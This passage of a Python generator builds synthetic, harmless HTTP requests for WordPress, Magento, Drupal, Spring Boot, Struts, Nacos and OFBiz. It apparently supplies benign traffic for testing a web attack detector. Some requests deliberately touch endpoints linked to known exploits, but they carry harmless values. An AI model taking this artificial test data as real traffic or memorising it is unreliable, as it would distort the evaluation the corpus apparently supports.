        return "wordpress_logged_in_%s=%s%%7C%d%%7C%s%%7C%s; wp-settings-1=libraryContent%%3Dbrowse; wp-settings-time-1=%d" % (hexs(r, 32), uname(r), r.randint(1764000000, 1765000000), alnum(r, 43), hexs(r, 64), r.randint(1764000000, 1765000000))

    def w_login(r, i):
        return "POST", r.choice(H), "/wp-login.php", browser(r, cookie="wordpress_test_cookie=WP%20Cookie%20check", extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://blog.example.com")]), form([("log", uname(r)), ("pwd", alnum(r, 16)), ("wp-submit", "Log In"), ("redirect_to", "https://blog.example.com/wp-admin/"), ("testcookie", "1")])

    def w_posts(r, i):
        return "GET", r.choice(H), "/wp-json/wp/v2/posts?per_page=10&_embed=1&page=%d" % r.randint(1, 9), browser(r, ACCEPT_JSON), None

    def w_save(r, i):
        content = ("<!-- wp:paragraph -->\n<p>Black Friday was our busiest day ever &#8211; here&#8217;s what we learned.</p>\n<!-- /wp:paragraph -->\n\n"
                   "<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">Traffic</h2>\n<!-- /wp:heading -->\n\n"
                   "<!-- wp:image {\"id\":%d,\"sizeSlug\":\"large\"} -->\n<figure class=\"wp-block-image size-large\"><img src=\"https://blog.example.com/wp-content/uploads/2026/11/traffic.png\" alt=\"Requests per second\" class=\"wp-image-%d\"/></figure>\n<!-- /wp:image -->\n\n"
                   "<!-- wp:list -->\n<ul><li>Peak: 4,200 orders/hour</li><li>p95 checkout: 820&nbsp;ms</li></ul>\n<!-- /wp:list -->") % (r.randint(100, 999), r.randint(100, 999))
        return "POST", r.choice(H), "/wp-json/wp/v2/posts/%d?_locale=user" % r.randint(10, 900), browser(r, "application/json, */*;q=0.1", wck(r), extra=[("Content-Type", "application/json"), ("X-WP-Nonce", hexs(r, 10))]), jdump({"id": r.randint(10, 900), "title": "Black Friday recap", "content": content, "status": "draft"})

    def w_heartbeat(r, i):
        pid = str(r.randint(10, 900))
        return "POST", r.choice(H), "/wp-admin/admin-ajax.php", browser(r, ACCEPT_JSON, wck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([("data[wp-refresh-post-lock][lock]", "%d:1" % r.randint(1764000000, 1765000000)), ("data[wp-refresh-post-lock][post_id]", pid), ("interval", "60"), ("_nonce", hexs(r, 10)), ("action", "heartbeat"), ("screen_id", "post"), ("has_focus", "false")])

    def w_search(r, i):
        return "GET", r.choice(H), "/?s=%s" % QP(r.choice(["how to reset password", "black friday", "gift card terms", "what's new in 2026", "C++ vs Rust"])), browser(r), None

    def w_wc(r, i):
        f, l = person(r)
        post = form([("billing_first_name", f), ("billing_last_name", l), ("billing_company", ""), ("billing_country", "IE"), ("billing_address_1", "12 St. Stephen's Green"), ("billing_city", "Dublin"), ("billing_postcode", "D02 XY45"), ("billing_email", "%s@example.net" % uname(r)), ("woocommerce-process-checkout-nonce", hexs(r, 10))])
        body = form([("security", hexs(r, 10)), ("payment_method", "stripe"), ("country", "IE"), ("state", ""), ("postcode", "D02 XY45"), ("city", "Dublin"), ("address", "12 St. Stephen's Green"), ("has_full_address", "true"), ("post_data", post)])
        return "POST", r.choice(H), "/?wc-ajax=update_order_review", browser(r, "*/*", "woocommerce_items_in_cart=1; wp_woocommerce_session_%s=%s" % (hexs(r, 32), alnum(r, 40)), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), body

    def w_cf7(r, i):
        f, l = person(r)
        ct, b = multipart(r, [("_wpcf7", None, None, "5"), ("_wpcf7_version", None, None, "5.9.8"), ("_wpcf7_locale", None, None, "en_US"), ("_wpcf7_unit_tag", None, None, "wpcf7-f5-p12-o1"),
                              ("your-name", None, None, "%s %s" % (f, l)), ("your-email", None, None, "%s@example.net" % uname(r)), ("your-subject", None, None, "Question about my order #%d" % r.randint(10000, 99999)),
                              ("your-message", None, None, "Hi,\nmy order hasn't arrived yet (tracking says \"in transit\" since Monday). Could you check?\nThanks!")])
        return "POST", r.choice(H), "/wp-json/contact-form-7/v1/contact-forms/5/feedback", browser(r, ACCEPT_JSON, extra=[("Content-Type", ct)]), b

    def w_upload(r, i):
        ct, b = multipart(r, [("name", None, None, "team-photo.jpg"), ("action", None, None, "upload-attachment"), ("_wpnonce", None, None, hexs(r, 10)), ("post_id", None, None, str(r.randint(10, 900))),
                              ("async-upload", "team-photo.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\u00ff\u00db\x00C\x00\x08\x06\x06\x07\x06\x05\x08\x07\x07\x07\t\t\x08\n\x0c\x14\r\x0c\x0b\x0b\x0c\x19\x12\x13\x0f\u00ff\u00d9")])
        return "POST", r.choice(H), "/wp-admin/async-upload.php", browser(r, ACCEPT_JSON, wck(r), extra=[("Content-Type", ct)]), b

    def w_cron(r, i):
        return "GET", r.choice(H), "/wp-cron.php?doing_wp_cron=%d.%s" % (r.randint(1764000000, 1765000000), digits(r, 22)), [["User-Agent", "WordPress/6.7.1; https://blog.example.com"], ["Accept", "*/*"]], None

    def w_asset(r, i):
        return "GET", r.choice(H), r.choice(["/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9.8", "/wp-content/plugins/woocommerce/assets/js/frontend/cart.min.js?ver=9.4.2", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/themes/twentytwentyfour/style.css?ver=1.3"]), browser(r, "*/*"), None

    def w_comment(r, i):
        return "POST", r.choice(H), "/wp-comments-post.php", browser(r, extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("comment", r.choice(["Great write-up! I'd add that the <strong>staging</strong> step saved us twice.", "Thanks – this fixed my issue with the 404s after changing permalinks.", "Does this work with PHP 8.3? We're still on 8.1 :)"])), ("author", " ".join(person(r))), ("email", "%s@example.net" % uname(r)), ("url", ""), ("submit", "Post Comment"), ("comment_post_ID", str(r.randint(10, 900))), ("comment_parent", "0")])

    def w_edit(r, i):
        return "GET", r.choice(H), r.choice(["/wp-admin/edit.php?post_type=page&orderby=title&order=asc", "/wp-admin/post.php?post=%d&action=edit" % r.randint(10, 900), "/wp-admin/upload.php?mode=grid"]), browser(r, cookie=wck(r)), None

    def w_store(r, i):
        return "POST", r.choice(H), "/wp-json/wc/store/v1/cart/add-item", browser(r, ACCEPT_JSON, extra=[("Content-Type", "application/json"), ("Nonce", hexs(r, 10))]), jdump({"id": r.randint(10, 900), "quantity": r.randint(1, 3)})

    def w_article(r, i):
        return "GET", r.choice(H), "/2026/11/%02d/%s/?utm_source=newsletter&utm_medium=email&utm_campaign=bf2026" % (r.randint(1, 30), r.choice(["black-friday-recap", "whats-new-in-our-app", "hiring-in-dublin"])), browser(r, referer="https://mail.google.com/"), None

    def w_xmlrpc(r, i):
        body = "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>%s</string></value></param><param><value><string>%s</string></value></param></params></methodCall>" % (uname(r), alnum(r, 16))
        return "POST", r.choice(H), "/xmlrpc.php", [["User-Agent", "wp-iphone/25.4 (iOS 18.1.1; en_US)"], ["Content-Type", "text/xml"], ["Accept", "*/*"]], body

    def w_media(r, i):
        return "POST", r.choice(H), "/wp-admin/admin-ajax.php", browser(r, ACCEPT_JSON, wck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([("action", "query-attachments"), ("post_id", str(r.randint(10, 900))), ("query[orderby]", "date"), ("query[order]", "DESC"), ("query[posts_per_page]", "80"), ("query[paged]", "1")])

    def w_options(r, i):
        return "POST", r.choice(H), "/wp-admin/options.php", browser(r, cookie=wck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("option_page", "general"), ("action", "update"), ("_wpnonce", hexs(r, 10)), ("_wp_http_referer", "/wp-admin/options-general.php"), ("blogname", "Example Engineering"), ("blogdescription", "Notes from the team – what we build & why"), ("siteurl", "https://blog.example.com"), ("home", "https://blog.example.com"), ("admin_email", "web@example.com"), ("timezone_string", "Europe/Dublin"), ("date_format", "F j, Y"), ("time_format", "g:i a")])

    run(o, "wordpress", 36, [w_login, w_posts, w_save, w_heartbeat, w_search, w_wc, w_cf7, w_upload, w_cron, w_asset, w_comment, w_edit, w_store, w_article, w_xmlrpc, w_media, w_options, w_search], rng)

    rng = R("b:magento")
    HM = ["shop.example.com", "store.example.net"]

    def mck(r):
        return "PHPSESSID=%s; form_key=%s; mage-cache-sessid=true; private_content_version=%s; section_data_ids=%s" % (alnum(r, 26).lower(), alnum(r, 16), hexs(r, 32), Q('{"cart":%d,"customer":%d}' % (r.randint(1764000000, 1765000000), r.randint(1764000000, 1765000000))))

    def mj(r):
        return browser(r, ACCEPT_JSON, mck(r), extra=[("Content-Type", "application/json"), ("X-Requested-With", "XMLHttpRequest")])

    def addr(r):
        f, l = person(r)
        return {"region": "Dublin", "region_id": 0, "country_id": "IE", "street": [r.choice(["12 St. Stephen's Green", "Apt 4, 7 O'Connell St", "Unit 3/B Harbour Rd"])], "company": "", "telephone": "+353 1 555 %04d" % r.randint(0, 9999), "postcode": "D02 XY45", "city": "Dublin", "firstname": f, "lastname": l}

    def m_search(r, i):
        return "GET", r.choice(HM), "/catalogsearch/result/?q=%s" % QP(r.choice(["men's running shoes", "rain jacket", "yoga mat 6mm", "gift card", "kids' backpack & lunchbox"])), browser(r, cookie=mck(r)), None

    def m_cart(r, i):
        return "POST", r.choice(HM), "/rest/default/V1/guest-carts", mj(r), ""

    def m_ship(r, i):
        return "POST", r.choice(HM), "/rest/default/V1/guest-carts/%s/estimate-shipping-methods" % alnum(r, 32), mj(r), jdump({"address": addr(r)})

    def m_shipinfo(r, i):
        a = addr(r)
        return "POST", r.choice(HM), "/rest/default/V1/guest-carts/%s/shipping-information" % alnum(r, 32), mj(r), jdump({"addressInformation": {"shipping_address": a, "billing_address": a, "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate", "extension_attributes": {}}})

    def m_pay(r, i):
        return "POST", r.choice(HM), "/rest/default/V1/guest-carts/%s/payment-information" % alnum(r, 32), mj(r), jdump({"cartId": alnum(r, 32), "billingAddress": addr(r), "paymentMethod": {"method": "checkmo", "po_number": None, "additional_data": None}, "email": "%s@example.net" % uname(r)})

    def m_add(r, i):
        return "POST", r.choice(HM), "/checkout/cart/add/uenc/%s/product/%d/" % (b64("https://shop.example.com/men/tops-men/jackets-men.html").rstrip("=").replace("/", "_"), r.randint(1, 2000)), browser(r, ACCEPT_JSON, mck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([("product", str(r.randint(1, 2000))), ("selected_configurable_option", ""), ("related_product", ""), ("item", str(r.randint(1, 2000))), ("form_key", alnum(r, 16)), ("super_attribute[93]", "52"), ("super_attribute[144]", "167"), ("qty", "1")])

    def m_section(r, i):
        return "GET", r.choice(HM), "/customer/section/load/?sections=cart%%2Cmessages&force_new_section_timestamp=true&_=%s" % ms(r), browser(r, ACCEPT_JSON, mck(r), extra=[("X-Requested-With", "XMLHttpRequest")]), None

    def m_graphql(r, i):
        q = 'query ProductDetail($sku: String!) { products(filter: {sku: {eq: $sku}}) { items { name sku url_key price_range { minimum_price { final_price { value currency } } } media_gallery { url label } } } }'
        return "POST", r.choice(HM), "/graphql", browser(r, ACCEPT_JSON, extra=[("Content-Type", "application/json"), ("Store", "default")]), jdump({"query": q, "variables": {"sku": "MH%02d" % r.randint(1, 20)}, "operationName": "ProductDetail"})

    def m_cms(r, i):
        content = ('<p>Free returns within 30 days &ndash; see <a href="{{store url="customer-service"}}">Customer Service</a>.</p>'
                   '<p><img src="{{media url="wysiwyg/banner-winter.jpg"}}" alt="Winter sale"></p>'
                   '{{widget type="Magento\\Cms\\Block\\Widget\\Block" template="widget/static_block/default.phtml" block_id="footer-links"}}')
        return "POST", r.choice(HM), "/admin/cms/block/save/", browser(r, ACCEPT_JSON, "admin=%s" % alnum(r, 26).lower(), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([("form_key", alnum(r, 16)), ("block_id", str(r.randint(1, 40))), ("title", "Footer – returns"), ("identifier", "footer_returns"), ("store_id[0]", "0"), ("is_active", "1"), ("content", content)])

    def m_static(r, i):
        return "GET", r.choice(HM), "/static/version%d/frontend/Magento/luma/en_US/%s" % (r.randint(1764000000, 1765000000), r.choice(["mage/requirejs/mixins.js", "Magento_Checkout/js/view/minicart.js", "css/styles-m.min.css"])), browser(r, "*/*"), None

    def m_cat(r, i):
        return "GET", r.choice(HM), "/women/tops-women/jackets-women.html?price=50-75&size=%d&product_list_order=price" % r.randint(160, 170), browser(r, cookie=mck(r)), None

    def m_news(r, i):
        return "POST", r.choice(HM), "/newsletter/subscriber/new/", browser(r, cookie=mck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("form_key", alnum(r, 16)), ("email", "%s@example.net" % uname(r))])

    def m_api(r, i):
        return "GET", r.choice(HM), "/rest/V1/products?searchCriteria[filter_groups][0][filters][0][field]=category_id&searchCriteria[filter_groups][0][filters][0][value]=%d&searchCriteria[filter_groups][0][filters][0][condition_type]=eq&searchCriteria[pageSize]=20" % r.randint(2, 40), [["User-Agent", "GuzzleHttp/7"], ["Accept", "application/json"], ["Authorization", "Bearer " + alnum(r, 32)]], None

    def m_review(r, i):
        return "POST", r.choice(HM), "/review/product/post/id/%d/" % r.randint(1, 2000), browser(r, cookie=mck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("form_key", alnum(r, 16)), ("ratings[4]", "19"), ("nickname", r.choice(FIRST)), ("title", r.choice(["Fits true to size", "Great value", "Not waterproof :("])), ("detail", r.choice(["Fits true to size, but the laces are a bit short. 4/5", "Bought 2 – one for my son's 10th birthday. He loves it!", "Leaks at the seams after 20 min of rain; returned it."]))])

    def m_login(r, i):
        return "POST", r.choice(HM), "/customer/account/loginPost/", browser(r, cookie=mck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("form_key", alnum(r, 16)), ("login[username]", "%s@example.net" % uname(r)), ("login[password]", alnum(r, 12)), ("send", "")])

    def m_order(r, i):
        return "GET", r.choice(HM), "/admin/sales/order/view/order_id/%d/key/%s/" % (r.randint(1000, 99999), hexs(r, 64)), browser(r, cookie="admin=%s" % alnum(r, 26).lower()), None

    run(o, "magento", 30, [m_search, m_cart, m_ship, m_shipinfo, m_pay, m_add, m_section, m_graphql, m_cms, m_static, m_cat, m_news, m_api, m_review, m_login, m_order], rng)

    rng = R("b:drupal")
    HD = ["www.example.org", "cms.example.com"]

    def dck(r):
        return "SSESS%s=%s" % (hexs(r, 32), alnum(r, 43))

    def d_edit(r, i):
        nid = r.randint(10, 900)
        return "POST", r.choice(HD), "/node/%d/edit" % nid, browser(r, cookie=dck(r), extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://www.example.org")]), form([
            ("changed", str(r.randint(1764000000, 1765000000))), ("title[0][value]", r.choice(["Accessibility statement", "Opening hours over the holidays", "Meet the team: Siobhán"])),
            ("body[0][summary]", ""), ("body[0][value]", "<p>Our libraries will be open <strong>10:00&ndash;16:00</strong> on 27&ndash;30 December.</p><ul><li>Returns box available 24/7</li><li>E-books as usual</li></ul>"),
            ("body[0][format]", "basic_html"), ("field_tags[target_id]", "holidays (12), opening hours (7)"), ("form_build_id", "form-" + alnum(r, 43)), ("form_token", alnum(r, 43)),
            ("form_id", "node_article_edit_form"), ("status[value]", "1"), ("op", "Save")])

    def d_login(r, i):
        return "POST", r.choice(HD), "/user/login?_format=json", browser(r, ACCEPT_JSON, extra=[("Content-Type", "application/json")]), jdump({"name": uname(r), "pass": alnum(r, 14)})

    def d_jsonapi(r, i):
        return "GET", r.choice(HD), "/jsonapi/node/article?filter%5Bstatus%5D=1&sort=-created&page%5Blimit%5D=10&include=field_image%2Cuid&fields%5Bnode--article%5D=title%2Ccreated%2Cpath", browser(r, "application/vnd.api+json"), None

    def d_views(r, i):
        return "POST", r.choice(HD), "/views/ajax?_wrapper_format=drupal_ajax", browser(r, "application/json, text/javascript, */*; q=0.01", dck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([
            ("view_name", "content"), ("view_display_id", "page_1"), ("view_args", ""), ("view_path", "/admin/content"), ("view_base_path", "admin/content"), ("view_dom_id", hexs(r, 64)), ("pager_element", "0"),
            ("title", r.choice(["budget", "holiday", ""])), ("type", "All"), ("status", "All"), ("langcode", "All"), ("page", "1"), ("_drupal_ajax", "1"),
            ("ajax_page_state[theme]", "claro"), ("ajax_page_state[theme_token]", ""), ("ajax_page_state[libraries]", "claro/global-styling,core/drupal.tableselect,system/base,views/views.module")])

    def d_fileajax(r, i):
        ct, b = multipart(r, [("form_build_id", None, None, "form-" + alnum(r, 43)), ("form_token", None, None, alnum(r, 43)), ("form_id", None, None, "node_article_form"),
                              ("files[field_image_0]", "library-front.png", "image/png", "\u0089PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\u00f3\u00ffa\x00\x00\x00\x00IEND\u00aeB`\u0082"),
                              ("_triggering_element_name", None, None, "field_image_0_upload_button"), ("_triggering_element_value", None, None, "Upload"), ("_drupal_ajax", None, None, "1"),
                              ("ajax_page_state[theme]", None, None, "claro"), ("ajax_page_state[libraries]", None, None, "claro/global-styling,file/drupal.file")])
        return "POST", r.choice(HD), "/file/ajax/field_image/0/form-%s?element_parents=field_image/widget/0&ajax_form=1&_wrapper_format=drupal_ajax" % alnum(r, 43), browser(r, "application/json, text/javascript, */*; q=0.01", dck(r), extra=[("Content-Type", ct), ("X-Requested-With", "XMLHttpRequest")]), b

    def d_node(r, i):
        return "GET", r.choice(HD), "/node/%d?destination=/admin/content" % r.randint(10, 900), browser(r, cookie=dck(r)), None

    def d_search(r, i):
        return "GET", r.choice(HD), "/search/node?keys=%s" % QP(r.choice(["accessibility statement", "opening hours", "parking permit"])), browser(r), None

    def d_contact(r, i):
        f, l = person(r)
        return "POST", r.choice(HD), "/contact/feedback", browser(r, extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("name", "%s %s" % (f, l)), ("mail", "%s@example.net" % uname(r)), ("subject[0][value]", "Broken link on the events page"), ("message[0][value]", "The \"Register\" link under 'Winter fair' goes to a 404 page."), ("form_build_id", "form-" + alnum(r, 43)), ("form_id", "contact_message_feedback_form"), ("op", "Send message")])

    def d_admin(r, i):
        return "GET", r.choice(HD), "/admin/content?title=%s&type=All&status=All&langcode=All&items_per_page=50&order=changed&sort=desc" % QP(r.choice(["budget", "holiday", "team"])), browser(r, cookie=dck(r)), None

    run(o, "drupal", 16, [d_edit, d_login, d_jsonapi, d_views, d_fileajax, d_node, d_search, d_contact, d_admin], rng)


# ---- Java services: Spring Boot, Struts, Nacos, OFBiz, ActiveMQ -----------

def b_java(o):
    rng = R("b:spring")
    H = ["api.example.com", "orders.apps.example.io", "orders-svc.prod.svc.cluster.local:8080"]

    def sj(r, ct=None):
        h = [["User-Agent", r.choice(["okhttp/4.12.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "ReactorNetty/1.1.22", "Apache-HttpClient/5.3.1 (Java/21.0.5)"])],
             ["Accept", "application/json"], ["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.%s.%s" % (b64(jdump({"sub": uname(r), "scope": "orders.read orders.write", "exp": 1765000000})).rstrip("="), alnum(r, 86))]]
        if ct:
            h.append(["Content-Type", ct])
        return h

    def s_health(r, i):
        return "GET", r.choice(H), r.choice(["/actuator/health", "/actuator/health/liveness", "/actuator/health/readiness"]), [["User-Agent", "kube-probe/1.30"], ["Accept", "*/*"], ["Connection", "close"]], None

    def s_prom(r, i):
        return "GET", r.choice(H), "/actuator/prometheus", [["User-Agent", "Prometheus/2.54.1"], ["Accept", "application/openmetrics-text;version=1.0.0;q=0.5,text/plain;version=0.0.4;q=0.4,*/*;q=0.1"], ["Accept-Encoding", "gzip"], ["X-Prometheus-Scrape-Timeout-Seconds", "10"]], None

    def s_info(r, i):
        return "GET", r.choice(H), "/actuator/info", [["User-Agent", "ArgoCD/v2.13.1"], ["Accept", "application/json"]], None

    def s_order(r, i):
        body = jdump({"customerId": r.randint(1000, 99999), "currency": "EUR", "items": [{"sku": "AB-%d" % r.randint(1000, 9999), "qty": r.randint(1, 4)}], "shippingAddress": {"name": " ".join(person(r)), "line1": r.choice(["12 St. Stephen's Green", "Hauptstraße 5"]), "city": "Dublin", "country": "IE"}, "note": r.choice(["Leave at door", "Ring twice – bell's broken", ""])})
        return "POST", r.choice(H), "/api/v1/orders", sj(r, "application/json"), body

    def s_list(r, i):
        return "GET", r.choice(H), "/api/v1/orders?page=%d&size=20&sort=createdAt,desc&status=SHIPPED" % r.randint(0, 20), sj(r), None

    def s_data_rest(r, i):
        return "GET", r.choice(H), "/api/customers/search/findByLastName?name=%s" % Q(r.choice(["O'Reilly", "Müller", "D'Angelo", "Smith"])), sj(r), None

    def s_docs(r, i):
        return "GET", r.choice(H), r.choice(["/v3/api-docs", "/swagger-ui/index.html", "/v3/api-docs/swagger-config"]), browser(r, ACCEPT_JSON), None

    def s_token(r, i):
        return "POST", r.choice(["auth.example.com", "api.example.com"]), "/oauth2/token", [["User-Agent", "Java-http-client/21.0.5"], ["Accept", "application/json"], ["Content-Type", "application/x-www-form-urlencoded"], ["Authorization", "Basic " + b64("orders-svc:%s" % alnum(r, 32))]], form([("grant_type", "client_credentials"), ("scope", "orders.read inventory.read")])

    def s_binding(r, i):
        f, l = person(r)
        body = form([("firstName", f), ("lastName", l), ("address.street", r.choice(["12 St. Stephen's Green", "Hauptstraße 5"])), ("address.city", "Dublin"), ("address.postcode", "D02 XY45"),
                     ("items[0].sku", "AB-1234"), ("items[0].qty", "2"), ("items[1].sku", "CD-5678"), ("items[1].qty", "1"), ("_csrf", uuid(r))])
        return "POST", r.choice(H), "/checkout/address", browser(r, cookie="SESSION=%s" % b64(uuid(r)), extra=[("Content-Type", "application/x-www-form-urlencoded")]), body

    def s_scf(r, i):
        return "POST", r.choice(H), "/uppercase", [["User-Agent", "curl/8.5.0"], ["Accept", "*/*"], ["Content-Type", "text/plain"], ["spring.cloud.function.definition", "uppercase|reverse"]], r.choice(["hello world", "order 1234 shipped"])

    def s_eureka(r, i):
        return "PUT", "eureka.platform.svc:8761", "/eureka/apps/ORDER-SERVICE/orders-%s:orders-service:8080?status=UP&lastDirtyTimestamp=%s" % (alnum(r, 10).lower(), ms(r)), [["User-Agent", "Java-EurekaClient/v2.0.4"], ["Accept", "application/json"], ["DiscoveryIdentity-Name", "DefaultClient"], ["DiscoveryIdentity-Version", "1.4"]], ""

    def s_eureka_get(r, i):
        return "GET", "eureka.platform.svc:8761", "/eureka/apps/delta", [["User-Agent", "Java-EurekaClient/v2.0.4"], ["Accept", "application/json"], ["Accept-Encoding", "gzip"]], None

    def s_metric(r, i):
        return "GET", r.choice(H), "/actuator/metrics/http.server.requests?tag=uri:/api/v1/orders&tag=status:200", [["User-Agent", "spring-boot-admin/3.3.5"], ["Accept", "application/vnd.spring-boot.actuator.v3+json"]], None

    run(o, "spring", 22, [s_health, s_prom, s_info, s_order, s_list, s_data_rest, s_docs, s_token, s_binding, s_scf, s_eureka, s_eureka_get, s_metric, s_health], rng)

    rng = R("b:struts")
    HS = ["app.example.com", "portal.corp.example.net"]

    def stk(r):
        return "JSESSIONID=%s" % hexs(r, 32).upper()

    def st_cart(r, i):
        return "GET", r.choice(HS), r.choice(["/shop/viewCart.action", "/index.action", "/account/orders.action?page=2"]), browser(r, cookie=stk(r)), None

    def st_login(r, i):
        return "POST", r.choice(HS), "/login.action", browser(r, cookie=stk(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("username", uname(r)), ("password", alnum(r, 12)), ("struts.token.name", "token"), ("token", alnum(r, 32).upper())])

    def st_search(r, i):
        return "GET", r.choice(HS), "/catalog/search.action?keyword=%s&page=%d&sortBy=price" % (QP(r.choice(["usb c cable", "men's boots", "desk lamp 40w"])), r.randint(1, 9)), browser(r, cookie=stk(r)), None

    def st_emp(r, i):
        f, l = person(r)
        return "POST", r.choice(HS), "/employee/save.action", browser(r, cookie=stk(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([
            ("employee.id", str(r.randint(1, 9999))), ("employee.firstName", f), ("employee.lastName", l), ("employee.department.id", str(r.randint(1, 30))),
            ("employee.skills[0]", "Java"), ("employee.skills[1]", "SQL"), ("employee.startDate", "2024-03-01"), ("__checkbox_employee.active", "true"), ("employee.active", "true")])

    def st_static(r, i):
        return "GET", r.choice(HS), r.choice(["/struts/utils.js", "/struts/js/base/jquery-ui.min.js", "/static/css/app.css"]), browser(r, "*/*", stk(r)), None

    def st_locale(r, i):
        return "GET", r.choice(HS), "/index.action?request_locale=%s" % r.choice(["de_DE", "fr_FR", "en_GB"]), browser(r, cookie=stk(r)), None

    def st_upload(r, i):
        ct, b = multipart(r, [("upload", "invoice-2026-11.pdf", "application/pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"), ("description", None, None, "November invoice")])
        return "POST", r.choice(HS), "/documents/upload.action", browser(r, cookie=stk(r), extra=[("Content-Type", ct)]), b

    def st_download(r, i):
        return "GET", r.choice(HS), "/report/download.action?fileName=%s&type=xlsx" % Q(r.choice(["Q3-report.xlsx", "Sales 2026 (final).xlsx"])), browser(r, cookie=stk(r)), None

    def st_validate(r, i):
        return "POST", r.choice(HS), "/account/register.action", browser(r, ACCEPT_JSON, stk(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), form([("struts.enableJSONValidation", "true"), ("struts.validateOnly", "true"), ("user.email", "%s@example.net" % uname(r)), ("user.name", " ".join(person(r)))])

    run(o, "struts", 15, [st_cart, st_login, st_search, st_emp, st_static, st_locale, st_upload, st_download, st_validate], rng)

    rng = R("b:nacos")
    HN = ["nacos.example.com:8848", "nacos-headless.platform.svc:8848"]

    def nh(r, ct=None):
        h = [["User-Agent", "Nacos-Java-Client:v2.2.3"], ["Client-Version", "Nacos-Java-Client:v2.2.3"], ["Accept-Charset", "UTF-8"], ["RequestId", uuid(r)], ["Request-Module", "Naming"]]
        if ct:
            h.append(["Content-Type", ct])
        return h

    def n_get(r, i):
        return "GET", r.choice(HN), "/nacos/v1/cs/configs?dataId=%s&group=DEFAULT_GROUP&tenant=prod&accessToken=%s" % (r.choice(["order-service.yaml", "gateway-routes.json", "common.properties"]), "eyJhbGciOiJIUzI1NiJ9." + alnum(r, 60) + "." + alnum(r, 43)), nh(r), None

    def n_listen(r, i):
        return "POST", r.choice(HN), "/nacos/v1/cs/configs/listener", nh(r, "application/x-www-form-urlencoded;charset=UTF-8") + [["Long-Pulling-Timeout", "30000"], ["Long-Pulling-Timeout-No-Hangup", "true"]], "Listening-Configs=" + Q("order-service.yaml\x02DEFAULT_GROUP\x02%s\x02prod\x01" % hexs(r, 32))

    def n_list(r, i):
        return "GET", r.choice(HN), "/nacos/v1/ns/instance/list?serviceName=%s&namespaceId=prod&clusters=&healthyOnly=false" % Q("DEFAULT_GROUP@@order-service"), nh(r), None

    def n_beat(r, i):
        beat = jdump({"cluster": "DEFAULT", "ip": "10.42.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), "port": 8080, "metadata": {"preserved.register.source": "SPRING_CLOUD"}, "scheduled": True, "serviceName": "DEFAULT_GROUP@@order-service", "weight": 1.0})
        return "PUT", r.choice(HN), "/nacos/v1/ns/instance/beat?namespaceId=prod&serviceName=%s&beat=%s" % (Q("DEFAULT_GROUP@@order-service"), Q(beat)), nh(r), ""

    def n_publish(r, i):
        content = ("spring.datasource.url=jdbc:mysql://mysql.prod.svc:3306/orders?useSSL=true&serverTimezone=UTC\n"
                   "spring.datasource.username=${DB_USER}\nspring.datasource.password=${DB_PASSWORD:changeme}\n"
                   "orders.retry.max-attempts=5\norders.retry.backoff=PT2S\nlogging.level.com.example.orders=INFO\n")
        return "POST", r.choice(HN), "/nacos/v1/cs/configs", browser(r, ACCEPT_JSON, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("accessToken", "eyJhbGciOiJIUzI1NiJ9." + alnum(r, 60) + "." + alnum(r, 43))]), form([("dataId", "order-service.properties"), ("group", "DEFAULT_GROUP"), ("tenant", "prod"), ("type", "properties"), ("content", content), ("desc", "raise retry attempts to 5")])

    def n_login(r, i):
        return "POST", r.choice(HN), "/nacos/v1/auth/login", nh(r, "application/x-www-form-urlencoded"), form([("username", "order-service"), ("password", alnum(r, 20))])

    run(o, "nacos", 10, [n_get, n_listen, n_list, n_beat, n_publish, n_login], rng)

    rng = R("b:ofbiz-activemq")
    HO = "erp.example.com:8443"

    def ock(r):
        return "JSESSIONID=%s.jvm1; OFBiz.Visitor=%d" % (hexs(r, 32).upper(), r.randint(10000, 99999))

    def of_1(r, i):
        return "GET", HO, r.choice(["/webtools/control/main", "/accounting/control/FindInvoices?statusId=INVOICE_READY&partyIdFrom=Company", "/ordermgr/control/orderview?orderId=WSCO%d" % r.randint(10000, 99999), "/catalog/control/EditProduct?productId=WG-%d" % r.randint(1000, 9999)]), browser(r, cookie=ock(r)), None

    def of_2(r, i):
